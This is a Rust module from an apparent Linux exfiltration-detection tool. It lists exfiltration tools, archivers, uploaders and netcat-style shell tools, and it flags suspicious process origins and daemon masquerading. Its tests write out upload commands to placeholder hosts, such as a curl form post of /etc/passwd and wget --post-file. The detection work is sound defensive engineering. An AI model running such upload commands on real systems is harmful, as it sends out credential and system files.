//! What names mean: exfiltration tools, archivers, applications that should not
//! upload, and command lines that public rules flag as uploads. Matching is on
//! basenames of the executable and of argv[0], case-insensitive, so a copy in
//! /tmp is still `rclone`; a renamed binary is caught by where it sends (the
//! destination catalog, issue "Destinations") and by its command line.

/// Basename, lowercased, without a trailing ".exe" (Wine, mixed fleets).
pub fn base(path: &str) -> String {
    let b = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    b.strip_suffix(".exe").map(str::to_string).unwrap_or(b)
}

/// The name lists are matched on: the basename up to its first control
/// character, so `mega-put\n\x1b[31m"` is still `mega-put` (a name that needs
/// control characters to look different is the evasion, not a new program).
pub fn match_name(path: &str) -> String {
    let b = base(path);
    match b.find(char::is_control) {
        Some(i) => b[..i].to_string(),
        None => b,
    }
}

/// Mega clients (MEGAsync, MEGAcmd's client commands and server, megatools)
/// and bulk-sync tools. Sources: Splunk "Mega Utility Execution" (megasync,
/// megacmd), Red Canary's rclone/Mega extortion write-up, MEGAcmd and megatools
/// command lists.
pub const EXFIL_TOOLS: &[(&str, &str)] = &[
    ("megasync", "MEGAsync"),
    ("mega-cmd", "MEGAcmd"),
    ("mega-cmd-server", "MEGAcmd server"),
    ("megacmd", "MEGAcmd"),
    ("megacmdserver", "MEGAcmd server"),
    ("mega-put", "MEGAcmd"),
    ("mega-exec", "MEGAcmd"),
    ("mega-sync", "MEGAcmd"),
    ("mega-backup", "MEGAcmd"),
    ("mega-transfers", "MEGAcmd"),
    ("megaput", "megatools"),
    ("megacopy", "megatools"),
    ("megatools", "megatools"),
    ("rclone", "rclone"),
];

/// Archivers, compressors, splitters and encryptors: the first half of
/// archive-then-upload (MITRE T1560.001, T1030 for split).
pub const ARCHIVERS: &[&str] = &[
    "tar", "gzip", "pigz", "bzip2", "pbzip2", "xz", "zstd", "lz4", "zip", "7z", "7za", "7zr", "rar", "split", "gpg",
    "gpg2", "openssl", "age", "cpio",
];

/// Applications not expected to send bulk data (MITRE T1567's
/// "WatchedApplications": office suites, viewers) plus archivers, which never
/// need the network themselves.
pub const WATCHED_APPS: &[&str] = &[
    "soffice.bin", "soffice", "libreoffice", "oosplash", "evince", "okular", "atril", "xpdf", "zathura", "eog",
    "gimp", "inkscape", "vim", "nano", "less", "cat",
];

/// Uploaders: the second half of archive-then-upload.
pub const UPLOADERS: &[&str] = &[
    "curl", "wget", "python", "python3", "perl", "ruby", "php", "node", "nc", "ncat", "socat", "scp", "sftp", "rsync",
    "rclone", "ftp", "lftp", "openssl",
];

/// A MEGAcmd client command (mega-put, mega-exec, mega-cmd, ...), which hands
/// its work to mega-cmd-server over a local socket.
pub fn is_megacmd_client(executable: &str, args: &[String]) -> bool {
    let names = [Some(match_name(executable)), args.first().map(|a| match_name(a))];
    names.iter().flatten().any(|n| n.starts_with("mega-") && !n.starts_with("mega-cmd-server"))
}

/// Programs whose sessions download: package managers and their fetch helpers
/// (apt's `http`/`https` methods run from /usr/lib/apt/methods), wget without
/// upload flags. An upload-shaped session from them is the anomaly.
pub const DOWNLOAD_HEAVY: &[&str] = &[
    "apt", "apt-get", "aptitude", "dnf", "yum", "zypper", "pacman", "apk", "pip", "pip3", "snap", "snapd", "flatpak",
    "wget", "freshclam",
];

pub fn is_download_heavy(executable: &str, args: &[String]) -> bool {
    // apt's fetchers are /usr/lib/apt/methods/{http,https}: judge them by directory.
    if executable.starts_with("/usr/lib/apt/methods/") {
        return true;
    }
    is_in(DOWNLOAD_HEAVY, executable) && upload_cmdline(executable, args).is_none()
}

pub fn exfil_tool(executable: &str, args: &[String]) -> Option<&'static str> {
    let names = [Some(match_name(executable)), args.first().map(|a| match_name(a))];
    for n in names.iter().flatten() {
        if let Some((_, product)) = EXFIL_TOOLS.iter().find(|(k, _)| k == n) {
            return Some(product);
        }
    }
    None
}

fn is_in(list: &[&str], executable: &str) -> bool {
    let b = match_name(executable);
    // python3.11 -> python3, perl5.36 -> perl
    let trimmed = b.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    list.iter().any(|n| *n == b || *n == trimmed)
}

pub fn is_archiver(executable: &str) -> bool {
    is_in(ARCHIVERS, executable)
}

pub fn is_watched(executable: &str) -> bool {
    is_in(WATCHED_APPS, executable) || is_archiver(executable)
}

pub fn is_uploader(executable: &str) -> bool {
    is_in(UPLOADERS, executable)
}

/// A command line that public rules flag as an upload: curl -T/--upload-file/
/// -F/--data* with @file, wget --post-file/--body-file, rclone copy/sync/move
/// (with --transfers or a mega remote). Returns a short description.
pub fn upload_cmdline(executable: &str, args: &[String]) -> Option<&'static str> {
    let b = base(args.first().map(String::as_str).unwrap_or(executable));
    let b_exe = base(executable);
    let is = |n: &str| b == n || b_exe == n;
    let rest = args.get(1..).unwrap_or(&[]);
    if is("curl") {
        let mut prev = "";
        for a in rest {
            let a = a.as_str();
            if matches!(a, "-T" | "--upload-file") || a.starts_with("--upload-file=") || (a.starts_with("-T") && a.len() > 2) {
                return Some("curl upload (-T)");
            }
            let data_flag = |f: &str| matches!(f, "-F" | "--form" | "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode");
            if data_flag(prev) && (a.starts_with('@') || a.contains("=@") || a.contains("=<")) {
                return Some("curl form/data upload of a file (@)");
            }
            prev = a;
        }
    }
    if is("wget") && rest.iter().any(|a| a.starts_with("--post-file") || a.starts_with("--body-file")) {
        return Some("wget --post-file/--body-file");
    }
    if is("rclone") {
        let verb = rest.iter().find(|a| !a.starts_with('-')).map(String::as_str).unwrap_or("");
        if matches!(verb, "copy" | "sync" | "move" | "copyto" | "moveto") {
            let mega = rest.iter().any(|a| a.to_ascii_lowercase().starts_with("mega"));
            let transfers = rest.iter().any(|a| a.starts_with("--transfers"));
            return Some(if mega {
                "rclone copy/sync to a mega remote"
            } else if transfers {
                "rclone copy/sync with --transfers"
            } else {
                "rclone copy/sync"
            });
        }
    }
    None
}

/// A tool execution worth an event before any byte moves: a Mega client
/// (Splunk flags their mere execution), or rclone with an upload verb or a
/// remote (`name:path`) on its command line (`rclone version` is not).
pub fn tool_exec(executable: &str, args: &[String]) -> Option<&'static str> {
    let product = exfil_tool(executable, args)?;
    if product != "rclone" {
        return Some(product);
    }
    let remote = args.iter().skip(1).any(|a| !a.starts_with('-') && a.contains(':'));
    (remote || upload_cmdline(executable, args).is_some()).then_some(product)
}

/// Where a program runs from that no installed program does, and names it
/// borrows: each a phrase for the alert ("runs from memory-backed /dev/shm").
/// `name` is the kernel's comm, `argv0` what the program calls itself.
pub fn origin_flags(executable: &str, name: &str, argv0: Option<&str>, deleted: bool) -> Vec<String> {
    let mut flags = Vec::new();
    if executable.is_empty() {
        return flags;
    }
    let dir_flag = [
        ("/tmp/", "runs from world-writable /tmp"),
        ("/var/tmp/", "runs from world-writable /var/tmp"),
        ("/dev/shm/", "runs from memory-backed /dev/shm"),
        ("/run/shm/", "runs from memory-backed /run/shm"),
        ("/run/user/", "runs from the per-user tmpfs /run/user"),
    ]
    .iter()
    .find(|(prefix, _)| executable.starts_with(prefix));
    if let Some((_, f)) = dir_flag {
        flags.push(f.to_string());
    }
    let parts: Vec<&str> = executable.split('/').filter(|c| !c.is_empty()).collect();
    if let Some((file, dirs)) = parts.split_last() {
        if dirs.iter().any(|d| d.starts_with('.')) {
            flags.push("runs from a hidden directory".into());
        } else if file.starts_with('.') {
            flags.push("is a hidden file".into());
        }
    }
    if executable.starts_with("/memfd:") || executable.starts_with("/dev/fd/") || executable.starts_with("/proc/self/fd/") {
        flags.push("runs from an anonymous in-memory file (memfd or fd exec)".into());
    } else if deleted {
        flags.push("its file was deleted while it runs".into());
    }
    let names: Vec<&str> = [Some(executable), Some(name), argv0].into_iter().flatten().collect();
    if names.iter().any(|n| n.chars().any(char::is_control)) {
        flags.push("its name carries control characters".into());
    }
    let own = [Some(name), argv0, Some(executable.rsplit('/').next().unwrap_or(executable))];
    let looks_kernel = argv0.is_some_and(|a| a.starts_with('[') && a.ends_with(']'))
        || own.iter().flatten().any(|n| KERNEL_THREADS.iter().any(|k| n.trim_start_matches('[').starts_with(k)));
    if looks_kernel {
        flags.push("calls itself a kernel thread, which never runs a program".into());
    } else if let Some(d) = own.iter().flatten().map(|n| base(n)).find(|n| SYSTEM_DAEMONS.contains(&n.as_str())) {
        if !SYSTEM_DIRS.iter().any(|p| executable.starts_with(p)) {
            flags.push(format!("calls itself the system daemon {d} but does not run from a system directory"));
        }
    }
    flags
}

/// Kernel thread name prefixes (ps shows them in brackets).
const KERNEL_THREADS: &[&str] = &[
    "kworker", "ksoftirqd", "kthreadd", "kswapd", "migration/", "rcu_", "watchdog", "jbd2/", "irq/", "kcompactd",
    "khugepaged", "kblockd", "kauditd", "cpuhp/", "idle_inject",
];

/// System daemons an implant likes to be mistaken for.
const SYSTEM_DAEMONS: &[&str] = &[
    "sshd", "systemd", "systemd-journald", "systemd-logind", "systemd-udevd", "systemd-resolved", "cron", "crond",
    "dbus-daemon", "rsyslogd", "udevd", "polkitd", "containerd", "dockerd", "kubelet", "chronyd", "ntpd", "agetty",
    "init", "atd", "snapd", "networkmanager", "auditd", "irqbalance",
];

/// Where packaged programs live.
const SYSTEM_DIRS: &[&str] = &["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/opt/", "/snap/", "/nix/store/"];

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &[&str]) -> Vec<String> {
        v.iter().map(|x| x.to_string()).collect()
    }

    #[test]
    fn tools_by_executable_or_argv0_in_any_directory() {
        assert_eq!(exfil_tool("/tmp/x/rclone", &s(&["rclone"])), Some("rclone"));
        assert_eq!(exfil_tool("/usr/bin/mega-put", &[]), Some("MEGAcmd"));
        assert_eq!(exfil_tool("/opt/MEGAsync.exe", &[]), Some("MEGAsync"));
        assert_eq!(exfil_tool("/usr/bin/curl", &s(&["mega-put"])), Some("MEGAcmd"));
        assert_eq!(exfil_tool("/usr/bin/curl", &s(&["curl"])), None);
    }

    #[test]
    fn tool_names_match_on_their_printable_prefix() {
        assert_eq!(exfil_tool("/tmp/x/mega-put\n\x1b[31m\"", &[]), Some("MEGAcmd"));
        assert_eq!(exfil_tool("/usr/bin/python3", &s(&["rclone\u{7}x"])), Some("rclone"));
        assert_eq!(exfil_tool("/tmp/x/\nmega-put", &[]), None, "nothing printable before the control character");
    }

    #[test]
    fn tool_executions_worth_an_event() {
        assert_eq!(tool_exec("/usr/bin/megaput", &s(&["megaput", "--path", "/Root", "f"])), Some("megatools"));
        assert_eq!(tool_exec("/usr/bin/megasync", &s(&["megasync"])), Some("MEGAsync"));
        assert_eq!(tool_exec("/usr/bin/rclone", &s(&["rclone", "copy", "/srv", "b2:bucket"])), Some("rclone"));
        assert_eq!(tool_exec("/usr/bin/rclone", &s(&["rclone", "lsd", "mega:"])), Some("rclone"));
        assert_eq!(tool_exec("/usr/bin/rclone", &s(&["rclone", "version"])), None);
        assert_eq!(tool_exec("/usr/bin/curl", &s(&["curl", "-T", "f", "http://x"])), None);
    }

    #[test]
    fn suspicious_origins() {
        let f = |exe: &str, name: &str, argv0: Option<&str>, deleted: bool| origin_flags(exe, name, argv0, deleted).join("; ");
        assert_eq!(f("/usr/bin/python3", "python3", Some("python3"), false), "");
        assert_eq!(f("/home/u/.cargo/bin/cargo", "cargo", Some("cargo"), false), "runs from a hidden directory");
        let shm = f("/dev/shm/.x/kworker", "kworker", Some("[kworker/0:1]"), true);
        for want in ["memory-backed /dev/shm", "hidden directory", "deleted", "kernel thread"] {
            assert!(shm.contains(want), "{shm}");
        }
        assert!(f("/tmp/mega-put\n\x1b[31m", "mega-put", None, false).contains("control characters"));
        assert!(f("/memfd:x (deleted)", "x", None, true).contains("memfd"));
        assert!(f("/home/u/sshd", "sshd", Some("/usr/sbin/sshd"), false).contains("system daemon sshd"));
        assert_eq!(f("/usr/sbin/sshd", "sshd", Some("sshd: u [priv]"), false), "");
        assert!(f("/var/tmp/.cache", "x", None, false).contains("hidden file"));
    }

    #[test]
    fn download_heavy_programs() {
        assert!(is_download_heavy("/usr/lib/apt/methods/https", &[]));
        assert!(is_download_heavy("/usr/bin/pip3", &s(&["pip3", "install", "x"])));
        assert!(is_download_heavy("/usr/bin/wget", &s(&["wget", "http://x/iso"])));
        assert!(!is_download_heavy("/usr/bin/wget", &s(&["wget", "--post-file=db", "http://x"])));
        assert!(!is_download_heavy("/usr/bin/curl", &s(&["curl"])));
    }

    #[test]
    fn megacmd_clients_are_not_the_server() {
        assert!(is_megacmd_client("/usr/bin/mega-put", &s(&["mega-put", "f", "/"])));
        assert!(is_megacmd_client("/usr/bin/mega-exec", &[]));
        assert!(!is_megacmd_client("/usr/bin/mega-cmd-server", &[]));
        assert!(!is_megacmd_client("/usr/bin/curl", &s(&["curl"])));
    }

    #[test]
    fn archivers_uploaders_watched() {
        assert!(is_archiver("/usr/bin/tar") && is_archiver("/bin/gzip") && is_archiver("/usr/bin/7z"));
        assert!(is_uploader("/usr/bin/python3.11") && is_uploader("/usr/bin/curl"));
        assert!(is_watched("/usr/lib/libreoffice/program/soffice.bin") && is_watched("/usr/bin/tar"));
        assert!(!is_watched("/usr/bin/curl"));
    }

    #[test]
    fn upload_command_lines() {
        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-T", "f", "http://x"])).is_some());
        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-F", "file=@/etc/passwd", "http://x"])).is_some());
        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "--data-binary", "@db.tar", "http://x"])).is_some());
        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-d", "a=b", "http://x"])).is_none());
        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-O", "http://x/big.iso"])).is_none());
        assert!(upload_cmdline("/usr/bin/wget", &s(&["wget", "--post-file=x", "http://x"])).is_some());
        assert_eq!(
            upload_cmdline("/usr/bin/rclone", &s(&["rclone", "copy", "/data", "mega:backup"])),
            Some("rclone copy/sync to a mega remote")
        );
        assert!(upload_cmdline("/usr/bin/rclone", &s(&["rclone", "ls", "mega:"])).is_none());
    }
}
